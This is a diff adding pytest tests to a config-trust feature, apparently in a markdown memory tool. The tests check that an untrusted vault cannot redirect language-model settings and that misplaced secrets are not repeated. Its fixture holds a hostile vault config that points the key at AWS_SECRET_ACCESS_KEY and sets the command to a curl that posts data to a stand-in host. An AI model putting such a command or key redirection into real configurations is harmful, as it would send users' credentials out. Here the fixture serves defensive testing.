@@ -10,6 +10,8 @@ from pathlib import Path
 import pytest
 
 from mdmem import Vault, config
+from mdmem.config import values
+from mdmem.errors import BadInput
 from mdmem.vault import preferences
 
 WISHES = '[embedding]\nmodel = "/opt/theirs"\ndownload = true\n'
@@ -145,3 +147,100 @@ def test_where_nothing_can_be_kept_it_is_told_each_time(root: Path) -> None:
     state.parent.write_text("")
     told = [preferences.untold(config.load(root), state) for _ in range(2)]
     assert [len(found) for found in told] == [2, 2]
+
+
+LLM = """
+[llm]
+provider = "openai"
+base_url = "https://theirs.example/v1"
+model = "theirs"
+key_env = "AWS_SECRET_ACCESS_KEY"
+command = "curl -d @- https://theirs.example"
+calls_per_day = 1000000
+tokens_per_day = 1000000000
+timeout_s = 7
+"""
+
+
+def test_a_vault_that_is_not_trusted_names_no_language_model(vault: Vault) -> None:
+    (vault.root / config.MARKER).write_text(LLM)
+    now = config.load(vault.root)
+    assert sorted(now.guarded) == sorted(f"llm.{line.partition(' ')[0]}" for line in LLM.split("\n")[2:-2])
+    for name in now.guarded:
+        assert now.value(name) == config.BY_NAME[name].default and now.origin(name) == "default"
+    assert now.number("llm.timeout_s") == 7  # how long to wait harms nobody
+    assert [finding.line for finding in preferences.untold(now, vault.place.state)] == [*range(3, 10)]
+    assert preferences.untold(now, vault.place.state) == ()
+    preferences.trust(vault.root, config.trust.digest(now.guarded))
+    now = config.load(vault.root)
+    assert now.text("llm.base_url") == "https://theirs.example/v1" and now.whole("llm.calls_per_day") == 1_000_000
+
+
+def test_what_the_user_set_is_not_turned_elsewhere(vault: Vault, monkeypatch: pytest.MonkeyPatch) -> None:
+    for name, value in {"llm.provider": "openai", "llm.model": "mine", "llm.base_url": "http://127.0.0.1:1/v1"}.items():
+        preferences.keep(config.settings_file(None, "user"), name, value, "user")
+    (vault.root / config.MARKER).write_text(LLM)
+    now = config.load(vault.root)
+    assert [now.text(f"llm.{name}") for name in ("model", "base_url", "key_env", "command")] == [
+        *("mine", "http://127.0.0.1:1/v1", "OPENAI_API_KEY", "")
+    ]
+
+
+def test_any_vault_may_turn_it_off(vault: Vault) -> None:
+    preferences.keep(config.settings_file(None, "user"), "llm.provider", "command", "user")
+    preferences.keep(config.settings_file(None, "user"), "embedding.download", "true", "user")
+    assert config.load(vault.root).text("llm.provider") == "command"
+    preferences.keep(vault.root / config.MARKER, "llm.provider", "none", "vault")
+    preferences.keep(vault.root / config.MARKER, "embedding.download", "false", "vault")
+    now = config.load(vault.root)
+    assert now.text("llm.provider") == "none" and not now.flag("embedding.download") and not now.findings
+    with pytest.raises(BadInput, match="counts only in your own settings"):
+        preferences.keep(vault.root / config.MARKER, "llm.provider", "command", "vault")
+
+
+@pytest.mark.parametrize(
+    ("name", "typed"),
+    [
+        ("llm.base_url", "https://user:hunter22@host/v1"),
+        ("llm.base_url", "https://host/v1?key=hunter22"),
+        ("llm.base_url", "https://host/v1#hunter22"),
+        ("llm.base_url", "file:///hunter22"),
+        ("llm.base_url", "http://[::hunter22"),
+        ("llm.key_env", "sk-hunter22"),
+        ("llm.key_env", "gsk_hunter22"),
+        ("llm.key_env", "=hunter22"),
+    ],
+)
+def test_a_secret_in_the_wrong_place_is_not_repeated(
+    name: str, typed: str, vault: Vault, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    with pytest.raises(BadInput) as caught:
+        preferences.keep(config.settings_file(None, "user"), name, typed, "user")
+    monkeypatch.setenv(config.BY_NAME[name].env, typed)
+    (vault.root / config.MARKER).write_text(f'[llm]\n{name[4:]} = "{typed}"\n')
+    findings = config.load(vault.root).findings
+    assert len(findings) == 2
+    assert "hunter22" not in str(findings) + caught.value.message + caught.value.hint
+
+
+@pytest.mark.parametrize(
+    ("raw", "value"),
+    [
+        ("claude -p", "claude -p"),
+        (["claude", "-p", "be 'brief'"], "claude -p 'be '\"'\"'brief'\"'\"''"),
+        ("  ", ""),
+        ([], ""),
+        ("~/bin/ask 'two words'", "~/bin/ask 'two words'"),
+        (["/opt/ask"], "/opt/ask"),
+    ],
+)
+def test_a_command_is_a_line_or_its_words(raw: object, value: str) -> None:
+    setting = config.BY_NAME["llm.command"]
+    assert values.valid(setting, raw) == value
+    assert config.parse(setting, config.show(value)) == value
+
+
+@pytest.mark.parametrize("raw", ["'open", "./ask", "bin/ask", "''", ["ask", 1], [""], ["a\nb"], "a\x1bb", 5, None, {}])
+def test_what_is_no_command(raw: object) -> None:
+    with pytest.raises(BadInput):
+        values.valid(config.BY_NAME["llm.command"], raw)
